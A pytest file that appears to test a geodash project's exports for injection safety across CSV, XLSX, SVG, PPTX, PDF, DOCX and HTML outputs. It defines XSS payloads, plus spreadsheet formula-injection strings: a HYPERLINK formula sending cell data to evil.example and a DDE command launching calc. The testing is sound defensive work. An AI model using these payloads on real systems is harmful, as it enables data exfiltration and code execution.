"""Markup and formulas in every column that takes text: text in every file that is made, never more."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from geodash.cli import main
from geodash.errors import DatasetError
from geodash.link.state import DashboardState, settle
from geodash.package import load_dataset
from geodash.products.order import Order, make_file
from tests.conftest import make_tiny
from tests.products.briefs import html_of, read

if TYPE_CHECKING:
    from pathlib import Path

    from geodash.model.dataset import Dataset
    from tests.conftest import TinyPackage

MARKUP = "<img src=x onerror=alert(1)></script><script>alert(2)</script> {{7*7}} ${7*7} `x` [l](javascript:a)"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x");=cmd|\' /C calc\'!A0'
TEXTS = (MARKUP, FORMULA, "@SUM(1)", "+1", "-1+1", "\uff1d1+1")
RISKY = re.compile(r"(?:^|[;\t\r\n])[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
"""How a cell begins, or goes on where a program splits it, that a spreadsheet takes for a formula."""
NUMBER = re.compile(r"-?\d+(\.\d+)?")
TABLES = ("places", "actors", "sources", "control", "events", "relations", "stories", "claims", "corrections")


def free_columns(package: TinyPackage, file: str) -> list[str]:
    """Columns of a table that the check lets any text stand in, with that of the other language."""
    header = package.read(file).splitlines()[0].split(",")
    before = package.read(file)
    free = []
    for column in header:
        twin = column[:-2] + {"en": "fr", "fr": "en"}.get(column[-2:], "")
        for name in {column, twin} & {*header}:
            package.set_cell(file, 2, name, MARKUP)
        try:
            load_dataset(package.folder)
        except DatasetError:
            pass
        else:
            free.append(column)
        package.write(file, before)
    return free


def filled(package: TinyPackage, text: str) -> int:
    """Put the text into every cell that takes it; how many columns that are."""
    columns = {name: free_columns(package, f"{name}.csv") for name in TABLES}
    for name, free in columns.items():
        rows = [*csv.reader(io.StringIO(package.read(f"{name}.csv")))]
        for row in rows[1:]:
            for at, column in enumerate(rows[0]):
                row[at] = text if column in free else row[at]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        package.write(f"{name}.csv", out.getvalue())
    return sum(map(len, columns.values()))


@pytest.fixture(scope="module", params=TEXTS, ids=["markup", "formula", "at", "plus", "minus", "wide"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    package = make_tiny(tmp_path_factory.mktemp("hostile") / "tiny")
    text: str = request.param
    assert filled(package, text) >= 30
    return text, package.folder


@pytest.fixture(scope="module")
def loaded(hostile: tuple[str, Path]) -> Dataset:
    return load_dataset(hostile[1])


def made(dataset: Dataset, kind: str, fmt: str, text: str = "") -> bytes:
    asked = DashboardState(date=dataset.last_day, days=None)
    state, _ = settle(asked, dataset)
    return make_file(dataset, state, Order(kind, fmt, title=text[:100], subtitle=text[:100])).content


def test_no_cell_of_a_table_is_a_formula(loaded: Dataset) -> None:
    with zipfile.ZipFile(io.BytesIO(made(loaded, "data", "csv"))) as archive:
        tables = [
            archive.read(name).decode("utf-8-sig") for name in archive.namelist() if name.endswith(".csv")
        ]
    cells = [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row]
    assert len(cells) > 100
    assert not [cell for cell in cells if RISKY.search(cell) and not NUMBER.fullmatch(cell)]
    book = openpyxl.load_workbook(io.BytesIO(made(loaded, "data", "xlsx")))
    typed = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line}
    assert typed <= {"s", "n", "d", "b"}
    every = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    linked = [cell for cell in every if cell.hyperlink]
    assert {cell.parent.title for cell in linked} == {"sources"}
    assert all(cell.hyperlink.target == cell.value for cell in linked)
    assert all(str(cell.value).startswith("https://") for cell in linked)


@pytest.mark.parametrize("command", ["events", "changes", "relations", "sources", "snapshot"])
def test_no_cell_on_the_command_line_is_a_formula(
    loaded: Dataset, hostile: tuple[str, Path], command: str
) -> None:
    asked = [f"{loaded.last_day}"] if command == "snapshot" else ["--since", f"{loaded.first_day}"]
    done = CliRunner().invoke(main, [command, *asked, "--format", "csv", "--data", str(hostile[1])])
    assert done.exit_code == 0, done.output
    rows = [*csv.reader(io.StringIO(done.stdout))]
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if RISKY.search(cell) and not NUMBER.fullmatch(cell)]


def test_data_files_hold_the_text_as_it_stands(loaded: Dataset, hostile: tuple[str, Path]) -> None:
    text, _ = hostile
    document = json.loads(made(loaded, "data", "geojson"))
    assert text in {
        value
        for feature in document["features"]
        for value in feature["properties"].values()
        if isinstance(value, str)
    }
    table = pq.ParquetFile(pa.BufferReader(made(loaded, "data", "geoparquet"))).read()
    assert text in {value for row in table.to_pylist() for value in row.values() if isinstance(value, str)}
    kml = ET.fromstring(made(loaded, "data", "kml"))  # noqa: S314  our own
    balloons = [node.text or "" for node in kml.iter() if node.tag.endswith("}description")]
    assert balloons
    assert not [balloon for balloon in balloons if re.search(r"<(?!br/>)", balloon)]


@pytest.mark.parametrize("kind", ["picture", "compare"])
def test_a_picture_runs_nothing(loaded: Dataset, hostile: tuple[str, Path], kind: str) -> None:
    days = (loaded.first_day, loaded.last_day) if kind == "compare" else ()
    state, _ = settle(DashboardState(date=loaded.last_day, days=None), loaded)
    drawn = make_file(loaded, state, Order(kind, "svg", title=hostile[0][:100], days=days)).content
    nodes = [*ET.fromstring(drawn).iter()]  # noqa: S314  our own
    assert not [
        node.tag for node in nodes if re.search(r"\}(script|foreignObject|image|iframe)$", str(node.tag))
    ]
    assert not [
        name
        for node in nodes
        for name in node.attrib
        if re.search(r"(^|\})(on\w+|href)$", name) and not re.match("#|https?://", node.attrib[name])
    ]


def test_slides_and_documents_are_made_of_text(loaded: Dataset, hostile: tuple[str, Path]) -> None:
    content = made(loaded, "slide", "pptx", hostile[0])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    relations = [part.decode() for name, part in parts.items() if name.endswith(".rels")]
    outward = [found for part in relations for found in re.findall(r'Target="([a-z]+:[^"]*)"', part)]
    assert not [address for address in outward if not address.startswith("https://")]
    assert made(loaded, "picture", "pdf", hostile[0]).startswith(b"%PDF")
    assert b"/JavaScript" not in made(loaded, "picture", "pdf", hostile[0])


def test_a_brief_is_made_of_text(loaded: Dataset, hostile: tuple[str, Path]) -> None:
    """What a text holds shows as it was typed: no markup, no link but to a source, no picture."""
    text = hostile[0][:100]
    shown = html_of(made(loaded, "brief", "md", text))
    assert html.unescape(shown.partition("</h1>")[0]) == f"<h1>{text}"
    assert "<" not in shown.partition("</h1>")[0].removeprefix("<h1>")
    assert not re.search(r"<(img|script)", shown)
    assert all(address.startswith("https://") for address in re.findall(r'href="([^"]*)"', shown))
    found = read(made(loaded, "brief", "docx", text))
    assert found.of_style("Title") == [text]
    assert all(address.startswith("https://") for _, address in found.links)


def test_the_page_in_one_file_holds_no_markup_of_the_data(loaded: Dataset) -> None:
    content = made(loaded, "page", "html")
    assert b"<img src=x" not in content
    assert b"<script>alert(2)" not in content
